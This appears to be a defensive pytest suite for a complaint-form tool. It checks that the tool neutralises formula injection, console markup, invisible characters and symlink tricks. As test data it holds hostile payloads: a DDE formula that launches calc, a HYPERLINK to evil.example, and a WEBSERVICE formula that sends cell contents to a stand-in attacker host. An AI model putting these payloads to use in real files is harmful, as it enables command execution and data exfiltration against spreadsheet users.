"""Hostile files and clerks' mistakes, sixteenth round: what the earlier rounds left open, end to
end through the commands — a report's cells, the screen's tables, invisible characters from
another system, links in the inbox."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
import tempfile
import zipfile
from decimal import Decimal
from pathlib import Path

import pytest
from helpers import kesu, ordinary_user
from hostile import complaint, excel_form, write_json

from kesu_docs.register import Register
from kesu_docs.xlsxtext import FORMULA_START

# what clerks type (or paste) that a spreadsheet would take for a formula
LIKE_FORMULAS = ["-2+3", '=HYPERLINK("http://evil.example/x","点我")', "@SUM(1,1)", "+cmd|' /C calc'!A0"]


def _closed_complaints(inbox: Path, customers: list[str]) -> None:
    inbox.mkdir()
    for i, customer in enumerate(customers):
        write_json(inbox / f"c{i}.json", complaint(customer=customer, order_no=f"SO-{i}", part_no=f"P-{i}"))


# ---------------------------------------------------------------------------------- report cells
def test_the_monthly_report_keeps_text_that_starts_like_a_formula_text_when_edited(tmp_path):
    """The monthly statistics' 按客户 table wrote a customer called ``-2+3`` or ``@SUM(1,1)`` as a
    string without Excel's quote prefix: a clerk who edits the cell (F2, Enter) turns it into a
    formula (=1) or a DDE call; the register export and the sheets written row by row had it."""
    from openpyxl import load_workbook

    _closed_complaints(tmp_path / "inbox", LIKE_FORMULAS)
    db = tmp_path / "kesu.db"
    assert kesu("render", tmp_path / "inbox", "-o", tmp_path / "out", "--db", db).exit_code == 0
    out = tmp_path / "月报.xlsx"
    done = kesu("report", "monthly", "2026-09", "--db", db, "-o", out)
    assert done.exit_code == 0, done.output
    with zipfile.ZipFile(out) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = load_workbook(out)
    seen: dict[str, int] = {}
    numbers = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                    seen[cell.value] = seen.get(cell.value, 0) + 1
                elif isinstance(cell.value, (int, float, Decimal)) and not isinstance(cell.value, bool):
                    numbers += 1
    assert set(LIKE_FORMULAS) <= set(seen), seen
    assert numbers  # the counts and amounts are still numbers


# ---------------------------------------------------------------------------------- the screen
def wide(*args: object, columns: str = "220") -> str:
    """``kesu ARGS`` printed as its wide table (the width the screen would give a wide window)."""
    from click.testing import CliRunner

    from kesu_docs.cli import cli

    done = CliRunner().invoke(cli, [str(a) for a in args], env={"COLUMNS": columns}, catch_exceptions=False)
    return done.output


MARKUP_NAMES = ["[link=http:evil.example]九月", "[bold red]退货", "[blink]收尾"]


def test_file_names_and_customers_are_shown_as_typed_never_as_markup_or_a_link(tmp_path, monkeypatch):
    """rich read a plain string in a table as console markup: a file named
    ``[link=http:evil.example]九月.json`` was listed as ``九月.json`` — in a terminal, a link to that
    site — ``[bold red]`` vanished into a style, and a customer typed ``[link=…]华东精密`` did the
    same in ``kesu register list``."""
    monkeypatch.chdir(tmp_path)  # short paths: a long one is folded over two lines
    inbox = Path("inbox")
    inbox.mkdir()
    for i, name in enumerate(MARKUP_NAMES):
        write_json(inbox / f"{name}.json", complaint(customer=f"{name}华东精密", order_no=f"SO-{i}"))
    db = tmp_path / "kesu.db"
    for columns in ("220", "80"):  # the table, and the blocks of a narrow window
        checked = wide("validate", inbox, "--lang", "en", columns=columns)
        rendered = wide(
            "render", inbox, "-o", tmp_path / f"out{columns}", "--db", db, "--lang", "en", columns=columns
        )
        listed = wide("register", "list", "--db", db, "--lang", "en", columns=columns)
        for name in MARKUP_NAMES:
            assert f"{name}.json" in checked, checked
            assert f"{name}.json" in rendered, rendered
            assert f"{name}华东精密" in listed and f"{name}.json" in listed, listed


def test_a_line_break_in_a_file_name_is_shown_escaped_on_one_line(tmp_path, monkeypatch):
    """A file named ``a⏎│ 假.json │ complaint │ valid`` drew a row of its own in the table."""
    monkeypatch.chdir(tmp_path)
    inbox = Path("inbox")
    inbox.mkdir()
    name = "九月\n│ 假.json │ 客户抱怨处理单 │ 通过"
    write_json(inbox / f"{name}.json", complaint())
    db = tmp_path / "kesu.db"
    for columns in ("220", "80"):
        for shown in (
            wide("validate", inbox, columns=columns),
            wide("render", inbox, "-o", tmp_path / "out", "--db", db, columns=columns),
            wide("register", "list", "--db", db, columns=columns),
        ):
            assert "九月\\n│ 假.json" in shown, shown
            assert not any(line.lstrip("│ ").startswith("假.json") for line in shown.splitlines()), shown


# ---------------------------------------------------------------------------------- characters
INVISIBLE = ["\u200b", "\u200d", "\ufeff", "\u00ad", "\u2060", "\u200e", "\u200f", "\U000e0041"]


def test_a_record_from_another_system_is_filed_as_it_prints_without_invisible_characters(tmp_path):
    """The reader drops what prints as nothing from every cell it reads, but a JSON record from
    another system kept it: "华东\\u200b精密" was filed, searched and counted in the monthly
    report as another customer than the 华东精密 printed on the form, "PCB-\\u200d4471-A" as
    another part. The left-to-right / right-to-left marks and the tag characters were kept by
    both readers."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i, char in enumerate(INVISIBLE):
        write_json(
            inbox / f"c{i}.json",
            complaint(customer=f"华东{char}精密", part_no=f"PCB-{char}4471-A", order_no=f"SO-{char}{i}"),
        )
    sheet = excel_form(inbox / "c.xlsx", customer="华东\u200e精密\U000e0041", order_no="SO-X")
    assert sheet.exists()
    for doc in map(json.loads, kesu("parse", inbox).output.splitlines()):
        assert doc["valid"], doc
        assert doc["record"]["customer"] == "华东精密", doc["source"]
        assert doc["record"]["part_no"] == "PCB-4471-A", doc["source"]
    db = tmp_path / "kesu.db"
    assert kesu("render", inbox, "-o", tmp_path / "out", "--db", db).exit_code == 0
    with Register.open(db) as reg:
        docs = list(reg.documents())
    assert len(docs) == len(INVISIBLE) + 1
    assert {d.customer for d in docs} == {"华东精密"}
    assert {d.number for d in docs} == {f"202609{n:03d}" for n in range(1, len(INVISIBLE) + 2)}


# ---------------------------------------------------------------------------------- linked files
@pytest.mark.skipif(sys.platform == "win32", reason="links need rights on Windows")
@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "指向所给文件夹之外的文件的链接"), ("en", "link to a file outside")]
)
def test_a_link_to_a_file_outside_the_inbox_is_listed_with_its_reason_and_never_read(lang, said, tmp_path):
    """A link in the inbox to a form elsewhere (another clerk's folder, a private one) was read,
    numbered and printed as if it were in the folder given; a link to a folder was already
    listed, not followed. A link to a file inside the folder is read (once), and a link named on
    the command line is read where it leads: the clerk named it."""
    inbox, outside = tmp_path / "inbox", tmp_path / "outside"
    inbox.mkdir()
    outside.mkdir()
    write_json(inbox / "good.json", complaint(order_no="SO-1"))
    write_json(outside / "secret.json", complaint(order_no="SO-SECRET", customer="别处的客户"))
    (inbox / "别处.json").symlink_to(outside / "secret.json")
    (inbox / "again.json").symlink_to(inbox / "good.json")
    for jobs in ("1", "2"):
        done = kesu("parse", inbox, "--jobs", jobs, "--lang", lang)
        docs = {Path(d["source"]).name: d for d in map(json.loads, done.output.splitlines())}
        assert set(docs) == {"good.json", "again.json", "别处.json"}
        assert docs["good.json"]["valid"] and docs["again.json"]["valid"]
        assert not docs["别处.json"]["valid"] and docs["别处.json"]["record"] is None
        assert said in docs["别处.json"]["errors"][0]["message"]
        assert done.exit_code == 2
    db = tmp_path / "kesu.db"
    rendered = kesu("render", inbox, "-o", tmp_path / "out", "--db", db, "--lang", lang)
    assert rendered.exit_code != 0, rendered.output
    with Register.open(db) as reg:
        assert [d.order_no for d in reg.documents()] == ["SO-1"]  # the link inside: the same form, once
    [named] = map(json.loads, kesu("parse", inbox / "别处.json").output.splitlines())
    assert named["valid"] and named["record"]["customer"] == "别处的客户"


# ---------------------------------------------------------------------------------- output folder
@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
@pytest.mark.parametrize(
    ("lang", "said"), [("zh", "无法写入输出文件夹"), ("en", "Cannot write into the output folder")]
)
def test_an_output_folder_that_cannot_be_written_into_is_said_before_any_number_is_issued(lang, said):
    """A read-only output folder (no write permission, read-only media) let `kesu render` number
    every valid form and then fail each one with Python's ``PermissionError: [Errno 13] …`` in
    English: numbers issued for documents nowhere. It is now refused first, exit 2, the register
    untouched; once the folder can be written, a rerun issues 202609001. `kesu penalty` and
    `kesu overdue -o` numbered their notices, then failed to write them."""
    work = Path(tempfile.mkdtemp(prefix="kesu-ro-out-"))  # pytest's folders are private to their owner
    try:
        os.chmod(work, 0o777)
        src = write_json(work / "c.json", complaint())
        os.chmod(src, 0o644)
        out = work / "out"
        out.mkdir()
        os.chmod(out, 0o555)
        db = work / "kesu.db"
        user = ordinary_user()  # root writes anywhere: as an ordinary user, as on a clerk's PC

        def run(*args: str) -> subprocess.CompletedProcess:
            return subprocess.run(
                [*user, sys.executable, "-m", "kesu_docs.cli", *args, "--db", str(db), "--lang", lang],
                capture_output=True,
                text=True,
                timeout=120,
                cwd=work,
                env={**os.environ, "HOME": str(work)},
            )

        def render() -> subprocess.CompletedProcess:
            return run("render", str(src), "-o", str(out))

        refused = render()
        assert refused.returncode == 2, refused.stdout + refused.stderr
        assert said in refused.stderr and "Errno" not in refused.stdout + refused.stderr
        assert list(out.iterdir()) == []
        if db.exists():
            with Register.open(db) as reg:
                assert list(reg.documents()) == []
        os.chmod(out, 0o777)
        done = render()
        assert done.returncode == 0, done.stdout + done.stderr
        assert [p.name for p in out.iterdir()] == ["complaint-202609001.docx"]
        os.chmod(out, 0o555)  # the notices kesu issues itself: numbered only where they can be written
        for args in (["penalty", "202609001"], ["overdue", "--as-of", "2026-12-31"]):
            refused = run(*args, "-o", str(out))
            assert refused.returncode == 2 and said in refused.stderr, refused.stdout + refused.stderr
        with Register.open(db) as reg:
            assert [d.number for d in reg.documents()] == ["202609001"]
    finally:
        if (work / "out").is_dir():
            os.chmod(work / "out", 0o777)
        shutil.rmtree(work, ignore_errors=True)


def test_a_notice_numbered_by_a_run_that_could_not_write_it_is_printed_as_its_original(tmp_path):
    """`kesu penalty` numbered the notice, failed to write it (here a folder stands where its file
    goes; a full disk or a share gone does the same) and the rerun printed it as 补印1: a re-print
    of an original nobody ever held, the print log without its original."""
    src = write_json(tmp_path / "c.json", complaint())
    db = tmp_path / "kesu.db"
    assert kesu("render", src, "-o", tmp_path / "docs", "--db", db).exit_code == 0
    out = tmp_path / "奖罚通知单"
    (out / "penalty-JF202610001.docx").mkdir(parents=True)
    failed = kesu("penalty", "202609001", "-o", out, "--date", "2026-10-05", "--db", db, "--lang", "en")
    assert failed.exit_code == 2, failed.output
    (out / "penalty-JF202610001.docx").rmdir()
    done = kesu("penalty", "202609001", "-o", out, "--date", "2026-10-05", "--db", db, "--lang", "en")
    assert done.exit_code == 0, done.output
    assert "issued" in done.output and "re-printed" not in done.output
    assert [p.name for p in out.iterdir()] == ["penalty-JF202610001.docx"]
    with Register.open(db) as reg:
        assert [p.mark for p in reg.printed("JF202610001", "penalty")] == ["original"]
        assert reg.get("JF202610001", "penalty").reprints == 0
    again = kesu("penalty", "202609001", "-o", out, "--date", "2026-10-05", "--db", db, "--lang", "en")
    assert "re-printed" in again.output  # printed once: now the next is a re-print
    assert sorted(p.name for p in out.iterdir()) == [
        "penalty-JF202610001-补印1.docx",
        "penalty-JF202610001.docx",
    ]


# ---------------------------------------------------------------------------------- formulas read
def _with_formulas(folder: Path, formulas: dict[str, str], saved: str = "华东精密") -> None:
    """Our blank filled, the customer's cell holding each of ``formulas`` (name → formula), with
    ``saved`` as its last result, as Excel stores a link's or a DDE call's value: one workbook
    each, ``NAME.xlsx``."""
    import re
    from xml.sax.saxutils import escape

    from openpyxl import load_workbook

    base = excel_form(folder / "base.xlsx", customer=saved)
    book = load_workbook(base)
    [cell] = [c for row in book.worksheets[0].iter_rows() for c in row if c.value == saved]
    cell.value = "=1"
    book.save(base)
    with zipfile.ZipFile(base) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    base.unlink()
    sheet = parts["xl/worksheets/sheet1.xml"].decode("utf-8")
    found = re.compile(
        rf'(<c r="{cell.coordinate}"[^>]*?)(?: t="\w+")?><f>1</f>(?:<v>[^<]*</v>|<v\s*/>)?</c>'
    )
    assert found.search(sheet)
    for name, formula in formulas.items():
        shown = f"<f>{escape(formula[1:])}</f><v>{saved}</v></c>"
        xml = found.sub(lambda m, shown=shown: f'{m[1]} t="str">{shown}', sheet)
        with zipfile.ZipFile(folder / f"{name}.xlsx", "w", zipfile.ZIP_DEFLATED) as archive:
            for part, data in parts.items():
                archive.writestr(part, xml.encode("utf-8") if part == "xl/worksheets/sheet1.xml" else data)


FROM_OUTSIDE = {
    "dde": "=cmd|' /C calc'!A0",
    "link": "='[1]客户清单'!B2",
    "path": "='\\\\fs01\\共享\\[客户.xlsx]Sheet1'!A1",
    "web": '=WEBSERVICE("http://evil.example/?c="&B5)',
}
INSIDE = {"hyperlink": '=HYPERLINK("http://example.com","华东精密")', "pipe-in-text": '="华东|精密"&""'}


def test_a_value_fetched_from_outside_the_file_by_its_formula_is_warned_with_the_formula(tmp_path):
    """A customer cell holding ``=cmd|' /C calc'!A0`` (DDE), a link to another workbook or a
    WEBSERVICE call was read from the result the file saved without a word: a value the sender's
    Excel fetches anew on opening (or an attack's bait) passed as the form's own. kesu runs none
    of it; the value is read and warned, formula named. A formula of the file's own is not."""
    _with_formulas(tmp_path, {**FROM_OUTSIDE, **INSIDE})
    docs = {Path(d["source"]).stem: d for d in map(json.loads, kesu("parse", tmp_path).output.splitlines())}
    assert set(docs) == set(FROM_OUTSIDE) | set(INSIDE)
    for name, doc in docs.items():
        assert doc["record"]["customer"] == "华东精密", name
        warned = [w for w in doc["warnings"] if w["code"] == "formula_from_outside"]
        if name in FROM_OUTSIDE:
            assert [w["field"] for w in warned] == ["customer"], name
            assert "来自文件之外" in warned[0]["message"] and FROM_OUTSIDE[name][1:] in warned[0]["message"]
        else:
            assert warned == [], name
    [dde] = map(json.loads, kesu("parse", tmp_path / "dde.xlsx", "--lang", "en").output.splitlines())
    assert "comes from outside the file" in dde["warnings"][0]["message"]


# ---------------------------------------------------------------------------------- file names
def test_numbers_differing_only_in_case_never_name_the_same_file_on_windows_or_macos(tmp_path):
    """The register holds ``CCF-0307`` and ``ccf-0307`` as two documents, but Windows and macOS
    do not tell their file names apart: the second document's print replaced the first's file
    (seen here as two names equal but for case). A number in capitals keeps its plain name."""
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    for i, number in enumerate(["CCF-0307", "ccf-0307", "Ccf-0307"]):
        write_json(inbox / f"c{i}.json", complaint(number=number, order_no=f"SO-{i}"))
    db = tmp_path / "kesu.db"
    done = kesu("render", inbox, "-o", tmp_path / "out", "--db", db)
    assert done.exit_code == 0, done.output
    names = sorted(p.name for p in (tmp_path / "out").iterdir())
    assert len(names) == 3 and len({n.casefold() for n in names}) == 3, names
    assert "complaint-CCF-0307.docx" in names
    with Register.open(db) as reg:
        assert sorted(d.number for d in reg.documents()) == ["CCF-0307", "Ccf-0307", "ccf-0307"]
    again = kesu("render", inbox, "-o", tmp_path / "out", "--db", db)  # the same names on a rerun
    assert again.exit_code == 0 and sorted(p.name for p in (tmp_path / "out").iterdir()) == names


@pytest.mark.parametrize(
    "typed", ["客诉单.json.", "客诉单.JSON .", "CON .json", "conout$.xlsx", "COM¹.pdf", "lpt² .json"]
)
def test_an_uploaded_name_windows_would_read_as_another_file_or_a_device_gets_a_name_of_its_own(
    typed, tmp_path
):
    """Windows drops a name's trailing dots and spaces: an upload named ``客诉单.json.`` after
    ``客诉单.json`` was written over it (Linux kept both), and ``CON .json``, ``CONOUT$`` and
    ``COM¹`` are devices there. Each now gets a name of its own in the batch's folder."""
    from kesu_docs.web.uploads import place

    inbox = tmp_path / "in"
    inbox.mkdir()
    taken: set[str] = set()
    first = place(inbox, "客诉单.json", taken)
    first.write_bytes(b"{}")
    second = place(inbox, typed, taken)
    assert second.parent == inbox.resolve()
    assert not second.name.endswith((".", " ")), second.name
    assert second.name.rstrip(" .").casefold() != first.name.casefold(), second.name
    assert second.name.split(".", 1)[0].rstrip(" ").lower() not in {"con", "conout$", "com¹", "lpt²"}, (
        second.name
    )
    second.write_bytes(b"[]")
    assert first.read_bytes() == b"{}"


@pytest.mark.skipif(sys.platform == "win32", reason="POSIX permissions")
def test_a_validation_report_is_as_readable_as_every_other_file_kesu_writes(tmp_path):
    """The validation report was made through ``mkstemp`` (0600): on a shared folder only the
    clerk who ran ``kesu validate`` could open 检查报告.xlsx, where the register export, the
    documents and the monthly report beside it follow the umask."""
    src = write_json(tmp_path / "c.json", complaint())
    db = tmp_path / "kesu.db"
    assert kesu("render", src, "-o", tmp_path / "out", "--db", db).exit_code == 0
    assert kesu("register", "export", "-o", tmp_path / "登记簿.xlsx", "--db", db).exit_code == 0
    expected = (tmp_path / "登记簿.xlsx").stat().st_mode & 0o777
    assert expected == (tmp_path / "out" / "complaint-202609001.docx").stat().st_mode & 0o777
    for suffix in (".xlsx", ".html", ".json"):
        report = tmp_path / f"检查报告{suffix}"
        assert kesu("validate", src, "--report", report).exit_code == 0
        assert report.stat().st_mode & 0o777 == expected, suffix
    assert (
        sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []
    )  # no temporary file left


@pytest.mark.skipif(sys.platform == "win32", reason="links need rights on Windows")
def test_a_link_planted_under_a_temporary_name_in_the_output_folder_is_never_written_through(tmp_path):
    """kesu writes each file under a temporary name (``.complaint-202609001.docx.PID.THREAD.part``,
    ``.登记簿.xlsx.PID.0.part``, ``.九月-202609002.xlsx.PID.part``) and renames it. Anyone who may write into a shared output folder
    could plant a link under that name (a process id is no secret): the document (or the export)
    was written into the file the link leads to, outside the folder, and the link renamed into
    the document's place. The temporary file is now made new, whatever stood there removed."""
    import threading

    victim = tmp_path / "别处" / "工资表.xlsx"
    victim.parent.mkdir()
    victim.write_bytes(b"VICTIM")
    out = tmp_path / "out"
    out.mkdir()
    src = write_json(tmp_path / "c.json", complaint())
    # an Excel form numbered here gets a working copy beside the documents
    sheet = excel_form(tmp_path / "九月.xlsx", customer="华南电子", order_no="SO-2")
    pid, thread = os.getpid(), threading.get_ident()  # the command runs in this process (click's runner)
    (out / f".complaint-202609001.docx.{pid}.{thread}.part").symlink_to(victim)
    (out / f".complaint-202609002.docx.{pid}.{thread}.part").symlink_to(victim)
    (out / f".九月-202609002.xlsx.{pid}.part").symlink_to(victim)
    (out / f".登记簿.xlsx.{pid}.0.part").symlink_to(victim)
    db = tmp_path / "kesu.db"
    assert kesu("render", src, "-o", out, "--db", db).exit_code == 0
    assert kesu("render", sheet, "-o", out, "--db", db).exit_code == 0
    assert kesu("register", "export", "-o", out / "登记簿.xlsx", "--db", db).exit_code == 0
    assert victim.read_bytes() == b"VICTIM"
    made = ["complaint-202609001.docx", "complaint-202609002.docx", "九月-202609002.xlsx", "登记簿.xlsx"]
    for name in made:
        assert not (out / name).is_symlink() and zipfile.is_zipfile(out / name), name
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith(".")) == sorted(made)


def test_a_form_with_a_name_as_long_as_a_disk_allows_still_gets_its_numbered_working_copy(tmp_path):
    """An Excel form named with 80 Chinese characters (243 bytes of UTF-8, under the 255 a file
    system stores) was numbered and printed, but its working copy, ``NAME-202609001.xlsx``, was a
    name too long to write: the clerk read ``Rendering failed: … [Errno 36] File name too long``.
    The copy's name is cut before the number, which is kept."""
    from test_hostile_inputs2 import long_name

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    source = excel_form(inbox / f"{long_name()}.xlsx")
    assert len(source.name.encode("utf-8")) > 240
    done = kesu("render", inbox, "-o", tmp_path / "out", "--db", tmp_path / "kesu.db", "--lang", "en")
    assert done.exit_code == 0, done.output
    assert "Errno" not in done.output and "too long" not in done.output
    [copy] = (tmp_path / "out").glob("*.xlsx")
    assert copy.name.endswith("-202609001.xlsx") and len(copy.name.encode("utf-8")) <= 200
    assert source.stem.startswith(copy.name.removesuffix("-202609001.xlsx"))
    assert zipfile.is_zipfile(copy)


def test_an_output_name_as_long_as_a_disk_allows_is_written(tmp_path):
    """``-o`` with 80 Chinese characters (245 bytes; a disk stores 255) failed with ``File name too
    long``: not the name asked for, but the temporary name kesu writes it under first
    (``.NAME.PID.XXXX.part``). The temporary name now holds a part of the name only."""
    from test_hostile_inputs2 import long_name

    src = write_json(tmp_path / "c.json", complaint())
    db = tmp_path / "kesu.db"
    assert kesu("render", src, "-o", tmp_path / "out", "--db", db).exit_code == 0
    name = long_name(limit=240)
    outputs = [
        ("register", "export", "-o", tmp_path / f"{name}.xlsx", "--db", db),
        ("report", "monthly", "2026-09", "-o", tmp_path / f"{name}.html", "--db", db),
        ("validate", src, "--report", tmp_path / f"{name}.json"),
    ]
    for args in outputs:
        done = kesu(*args)
        assert done.exit_code == 0, done.output
        assert Path(args[args.index("-o" if "-o" in args else "--report") + 1]).is_file(), args
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".")]  # no temporary file left
